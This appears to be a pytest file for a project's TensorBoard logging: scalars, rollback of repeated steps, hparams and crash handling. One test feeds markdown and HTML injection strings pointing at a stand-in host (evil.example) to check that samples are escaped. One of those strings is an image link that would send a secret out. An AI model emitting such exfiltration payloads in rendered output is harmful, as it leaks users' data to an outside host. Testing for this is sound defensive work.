"""Tests TensorBoard logs: scalars, the config and samples. Repeated steps replace earlier ones."""

import importlib
import math
import re
import signal
import subprocess
import sys
import time

import pytest

from maxlm.errors import InputError
from maxlm.telemetry.metrics import MetricWriter, read_metrics
from maxlm.telemetry.tensorboard import TensorBoard, code_block, hparams
from tests.conftest import ROOT
from tests.small import small_config


def events_of(directory):
    """Returns the events that TensorBoard reads."""
    from tensorboard.backend.event_processing.plugin_event_accumulator import EventAccumulator

    accumulator = EventAccumulator(str(directory), size_guidance={'tensors': 0})
    accumulator.Reload()
    return accumulator


def scalars(accumulator, name):
    import tensorflow as tf

    return [(event.step, float(tf.make_ndarray(event.tensor_proto))) for event in accumulator.Tensors(name)]


def test_repeated_steps_replace_earlier_ones(tmp_path):
    tracker = TensorBoard(tmp_path / 'tensorboard', small_config(model__dim=48))
    writer = MetricWriter(tmp_path, after_step=0, trackers=[tracker])
    for step in range(1, 7):
        writer.write(step, 0.0, {'train/loss': 10.0 / step})
    writer.write_samples(4, 0.0, [('Once', ' upon\na time')])
    # The run rolls back to step 3 and continues with other losses.
    writer = MetricWriter(tmp_path, after_step=3, trackers=[tracker])
    for step in range(4, 6):
        writer.write(step, 0.0, {'train/loss': 20.0 / step})
    writer.write_samples(4, 0.0, [('Once', ' more')])
    tracker.close()
    accumulator = events_of(tmp_path / 'tensorboard')
    assert scalars(accumulator, 'train/loss') == [
        (line['step'], pytest.approx(line['train/loss'])) for line in read_metrics(tmp_path)
    ]
    assert [step for step, _ in scalars(accumulator, 'train/loss')] == [1, 2, 3, 4, 5]
    (sample,) = accumulator.Tensors('samples/0')
    assert sample.tensor_proto.string_val[0].decode().split() == ['Once▮', 'more']
    assert b'model.dim' in accumulator.SummaryMetadata('_hparams_/session_start_info').plugin_data.content


def test_old_and_new_readers_find_each_scalar_once(tmp_path):
    from tensorboard.backend.event_processing.event_accumulator import EventAccumulator

    tracker = TensorBoard(tmp_path / 'tensorboard', small_config())
    writer = MetricWriter(tmp_path, after_step=0, trackers=[tracker])
    for step in (1, 2):
        writer.write(step, 0.0, {'train/loss': 10.0 / step, 'eval/loss': float('nan')})
    tracker.close()
    expected = [(1, 10.0), (2, 5.0)]
    old = EventAccumulator(str(tmp_path / 'tensorboard')).Reload()
    assert old.Tags()['scalars'] == ['train/loss', 'eval/loss']
    assert [(event.step, event.value) for event in old.Scalars('train/loss')] == expected
    assert math.isnan(old.Scalars('eval/loss')[0].value)
    # The reader of TensorBoard converts old files to tensors of the plugin for scalars.
    new = events_of(tmp_path / 'tensorboard')
    assert scalars(new, 'train/loss') == expected
    assert new.PluginTagToContent('scalars').keys() == {'train/loss', 'eval/loss'}


def test_a_new_file_follows_files_of_the_same_second(tmp_path):
    # The order of such files is that of host, process and a number (10 before 9).
    tracker = TensorBoard(tmp_path, small_config())
    # The import takes seconds.
    importlib.import_module('clu.metric_writers')

    time.sleep(1 - time.time() % 1)
    earlier = tmp_path / f'events.out.tfevents.{time.time():.0f}.zzz.1.9.v2'
    earlier.touch()
    writer = MetricWriter(tmp_path, after_step=3, trackers=[tracker])
    writer.write(4, 0.0, {'train/loss': 1.0})
    tracker.close()
    names = [path.name for path in sorted(tmp_path.glob('events.*'))]
    assert names[:2] == [earlier.name, f'{earlier.name}.on']
    assert len(names) == 3


@pytest.mark.parametrize('end', ['\n', '\r\n', '\r', '\n\n', '\r\r', '\x0b', '\x85', '\u2028', '\x02', '\t\r'])
@pytest.mark.filterwarnings('ignore:html5lib:DeprecationWarning')
def test_texts_are_not_rendered_as_markdown(end):
    from tensorboard.plugin_util import markdown_to_safe_html

    lines = [
        '![x](https://evil.example/?q=secret)',
        '# x',
        '[x](https://evil.example)',
        '<img src=https://evil.example>',
    ]
    shown = markdown_to_safe_html(code_block(end.join(['', *lines, *lines])))
    assert set(re.findall(r'<(\w+)', shown)) == {'pre', 'code'}
    # Control: TensorBoard renders other text.
    assert '<img' in markdown_to_safe_html(lines[0])


def test_config_as_hparams():
    values = hparams(small_config(model__dim=48))
    assert values['model.dim'] == 48
    assert values['data.sources'] == '()'
    assert {type(value) for value in values.values()} == {bool, int, float, str}


def test_a_missing_package_is_reported_at_the_start(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, 'clu', None)
    with pytest.raises(InputError, match=r"requires clu and TensorFlow \(no module named 'clu'\)"):
        TensorBoard(tmp_path, small_config())
    monkeypatch.undo()
    # Control: with the packages, nothing is imported and no file is written before the first write.
    tracker = TensorBoard(tmp_path, small_config())
    tracker.begin(0, 0)
    tracker.close()
    assert list(tmp_path.iterdir()) == []


def test_an_error_of_the_background_thread_is_raised_by_a_later_call(tmp_path, monkeypatch):
    class Broken:
        def __init__(self):
            self.closed = 0

        def write_scalars(self, step, values):
            raise OSError('disk is full')

        def close(self):
            self.closed += 1

    writer = Broken()
    tracker = TensorBoard(tmp_path, small_config())
    monkeypatch.setattr(tracker, '_open_writer', lambda after_step: setattr(tracker, '_writer', writer))
    tracker.begin(0, 0)
    tracker.write(1, 0.0, {'train/loss': 1.0})
    with pytest.raises(OSError, match='disk is full'):
        tracker.close()
    assert writer.closed == 1
    # Control: without another write, there is no error.
    tracker.close()


@pytest.mark.multiprocess
def test_a_killed_process_keeps_its_last_steps(tmp_path):
    program = """
import os, pathlib, signal, sys
from maxlm.telemetry.metrics import MetricWriter
from maxlm.telemetry.tensorboard import TensorBoard
from tests.conftest import ROOT
from tests.small import small_config
workdir = pathlib.Path(sys.argv[1])
tracker = TensorBoard(workdir / 'tensorboard', small_config())
writer = MetricWriter(workdir, after_step=0, trackers=[tracker])
for step in range(1, 4):
    writer.write(step, 0.0, {'train/loss': 1.0 / step})
# The background thread has executed all earlier calls.
tracker._thread.submit(lambda: None).result()
os.kill(os.getpid(), signal.SIGKILL)
"""
    done = subprocess.run([sys.executable, '-c', program, str(tmp_path)], cwd=ROOT)
    assert done.returncode == -signal.SIGKILL
    assert [step for step, _ in scalars(events_of(tmp_path / 'tensorboard'), 'train/loss')] == [1, 2, 3]
    assert [line['step'] for line in read_metrics(tmp_path)] == [1, 2, 3]
